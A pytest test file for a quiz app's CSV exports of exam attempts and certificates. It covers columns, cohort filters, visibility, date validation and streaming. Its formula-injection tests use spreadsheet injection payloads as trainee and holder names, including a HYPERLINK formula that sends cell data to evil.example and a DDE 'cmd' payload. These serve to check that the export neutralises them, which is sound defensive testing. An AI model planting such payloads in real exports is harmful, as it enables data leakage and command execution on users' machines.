"""The console's CSV exports (issue 9, item 8): attempts with their results and
certificates. Columns, rows and values on the hand-made world (console_data.py), the
dashboard's filters and visibility, formula injection neutralised, streamed."""

from __future__ import annotations

import csv
import io

import pytest
from console_data import CERT, PRACTICE, build_world, bulk_attempts, person
from helpers import statements
from sqlalchemy import select
from support import PASSWORD

from quizapp.extensions import db
from quizapp.models import Attempt, Certificate, CohortMember, utcnow

ATTEMPTS = "/manager/exports/attempts.csv"
CERTIFICATES = "/manager/exports/certificates.csv"
ATTEMPT_HEADER = ["attempt_id", "trainee", "email", "cohorts", "exam", "exam_kind",
                  "attempt_number", "started_utc", "finished_utc", "score_percent",
                  "pass_mark_percent", "passed", "Alpha (%)", "Beta (%)"]
CERTIFICATE_HEADER = ["code", "holder", "email", "exam", "title", "issued_utc",
                      "expires_utc", "status", "cohorts"]


@pytest.fixture
def world(app):
    return build_world()




def login(client, user):
    assert client.post("/auth/login", data={"email": user.email,
                                            "password": PASSWORD}).status_code == 302


def download(client, url: str, status: int = 200):
    response = client.get(url)
    assert response.status_code == status, response.get_data(as_text=True)[:1000]
    return response


def rows(response) -> list[list[str]]:
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")  # so Excel reads UTF-8
    return list(csv.reader(io.StringIO(body[1:])))


def by_trainee(table) -> dict[str, list[dict]]:
    header, *data = table
    found: dict[str, list[dict]] = {}
    for line in data:
        row = dict(zip(header, line, strict=True))
        found.setdefault(row["trainee"], []).append(row)
    return found


# --- Attempts ------------------------------------------------------------------------


def test_one_row_per_attempt_with_a_column_per_topic(world, client):
    login(client, world.maya)
    response = download(client, ATTEMPTS)
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith(
        'attachment; filename="attempts-')
    table = rows(response)
    assert table[0] == ATTEMPT_HEADER
    assert len(table) == 1 + 6 - 1  # Maya's trainees: 4 certification, 1 practice
    people = by_trainee(table)
    assert set(people) == {"Tessa Trainee", "Oscar Other"}
    first, second, practice = people["Tessa Trainee"]  # by attempt id: as made
    assert first == {
        "attempt_id": first["attempt_id"], "trainee": "Tessa Trainee",
        "email": "tessa@example.com", "cohorts": "North", "exam": CERT,
        "exam_kind": "certification", "attempt_number": "1",
        "started_utc": "2025-03-03 09:40:00", "finished_utc": "2025-03-03 10:00:00",
        "score_percent": "50.0", "pass_mark_percent": "80.0", "passed": "no",
        "Alpha (%)": "50.0", "Beta (%)": "50.0"}
    assert (second["passed"], second["Alpha (%)"], second["Beta (%)"]) == ("yes", "100.0",
                                                                            "100.0")
    # A practice quiz on Alpha only: Beta was not on its form, so its cell is empty.
    assert (practice["exam"], practice["Alpha (%)"], practice["Beta (%)"]) == (
        PRACTICE, "50.0", "")
    assert [r["score_percent"] for r in people["Oscar Other"]] == ["75.0", "25.0"]


def test_an_angoff_pass_mark_keeps_its_two_decimals(world, client):
    # An Angoff form's mark is kept to two decimals (exam_rules); the CSV must not
    # round 80.83 to the 80.8 that no page shows.
    attempt = db.session.scalar(select(Attempt).where(Attempt.exam_id == CERT)
                                .order_by(Attempt.id))
    attempt.pass_mark_percent, attempt.pass_mark_method = 80.83, "angoff"
    db.session.commit()
    login(client, world.maya)
    table = by_trainee(rows(download(client, ATTEMPTS)))
    marks = {r["attempt_id"]: r["pass_mark_percent"] for group in table.values() for r in group}
    assert marks[str(attempt.id)] == "80.83"


def test_an_admin_exports_everyone_and_filters_apply(world, client):
    login(client, world.admin)
    assert len(rows(download(client, ATTEMPTS))) == 1 + 6
    south = rows(download(client, f"{ATTEMPTS}?cohort={world.south.id}"))
    assert [r[1] for r in south[1:]] == ["Sam South"]
    assert south[1][ATTEMPT_HEADER.index("Beta (%)")] == "80.0"  # marks 1 and 0.6
    practice = rows(download(client, f"{ATTEMPTS}?exam={PRACTICE}"))
    assert len(practice) == 2
    dated = rows(download(client, f"{ATTEMPTS}?since=2025-03-04&until=2025-03-05"))
    assert sorted(r[ATTEMPT_HEADER.index("finished_utc")][:10] for r in dated[1:]) == [
        "2025-03-04", "2025-03-04", "2025-03-05"]


def test_a_trainee_in_several_cohorts_lists_the_ones_the_viewer_sees(world, client):
    db.session.add(CohortMember(cohort_id=world.south.id, user_id=world.tessa.id))
    db.session.commit()
    login(client, world.admin)
    admin = by_trainee(rows(download(client, ATTEMPTS)))
    assert admin["Tessa Trainee"][0]["cohorts"] == "North; South"
    client.post("/auth/logout")
    login(client, world.maya)
    maya = by_trainee(rows(download(client, ATTEMPTS)))
    assert maya["Tessa Trainee"][0]["cohorts"] == "North"


def test_a_foreign_cohort_is_not_found_and_a_bad_date_is_refused(world, client):
    login(client, world.maya)
    download(client, f"{ATTEMPTS}?cohort={world.south.id}", 404)
    download(client, f"{CERTIFICATES}?cohort={world.south.id}", 404)
    bad = download(client, f"{ATTEMPTS}?since=2025-02-30", 400)
    assert "Enter a date as year-month-day" in bad.get_data(as_text=True)
    download(client, f"{CERTIFICATES}?until=soon", 400)


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1",
                                  "-2+3", "@SUM(A1)"])
def test_a_name_that_is_a_formula_comes_out_as_text(world, client, name):
    world.oscar.name = name
    db.session.commit()
    login(client, world.maya)
    table = rows(download(client, ATTEMPTS))
    names = {r[1] for r in table[1:]}
    assert names == {"Tessa Trainee", "'" + name}


def test_the_export_is_streamed_not_built_in_memory(world, client):
    login(client, world.maya)
    for url, count in ((ATTEMPTS, 5), (CERTIFICATES, 1)):
        response = client.get(url)
        assert response.is_streamed
        assert not isinstance(response.response, list | tuple | bytes | str)
        chunks = list(response.response)  # what the server sends, piece by piece
        assert len(chunks) == 1 + count  # the header, then one line per row
        assert chunks[0].startswith("\ufeff".encode()) and chunks[-1].endswith(b"\r\n")


def test_the_attempts_export_costs_the_same_queries_for_10_and_1000_attempts(world, client):
    bulky = person("bulk@example.com", "Bulk Trainee")
    db.session.add(CohortMember(cohort_id=world.north.id, user_id=bulky.id))
    db.session.commit()
    login(client, world.maya)

    def cost() -> tuple[int, int]:
        download(client, ATTEMPTS)
        with statements() as seen:
            count = len(rows(download(client, ATTEMPTS))) - 1
        return count, len(seen)

    bulk_attempts(world, 5, bulky, CERT)
    few_rows, few = cost()
    bulk_attempts(world, 995, bulky, CERT)
    many_rows, many = cost()
    assert (few_rows, many_rows) == (5 + 5, 5 + 1000)
    assert many == few


# --- Certificates --------------------------------------------------------------------


def test_certificates_with_their_status_and_cohorts(world, client):
    revoked = db.session.scalar(select(Certificate).where(Certificate.user_id == world.sam.id))
    revoked.revoked_at = utcnow()
    revoked.holder_name = "=cmd|' /C calc'!A0"
    db.session.commit()
    login(client, world.admin)
    table = rows(download(client, CERTIFICATES))
    assert table[0] == CERTIFICATE_HEADER
    found = {r[1]: dict(zip(CERTIFICATE_HEADER, r, strict=True)) for r in table[1:]}
    assert set(found) == {"Tessa Trainee", "'=cmd|' /C calc'!A0"}
    tessa = found["Tessa Trainee"]
    assert tessa["code"] == "TESS-ACOD-E000-0000-0000-0000-1"
    assert (tessa["email"], tessa["exam"], tessa["title"], tessa["cohorts"]) == (
        "tessa@example.com", CERT, "Console cert", "North")
    assert tessa["issued_utc"] == "2025-03-12 09:00:00" and tessa["status"] == "valid"
    assert found["'=cmd|' /C calc'!A0"]["status"] == "revoked"
    client.post("/auth/logout")
    login(client, world.maya)
    mine = rows(download(client, CERTIFICATES))
    assert [r[1] for r in mine[1:]] == ["Tessa Trainee"]
    none = rows(download(client, f"{CERTIFICATES}?since=2025-03-13"))
    assert none == [CERTIFICATE_HEADER]
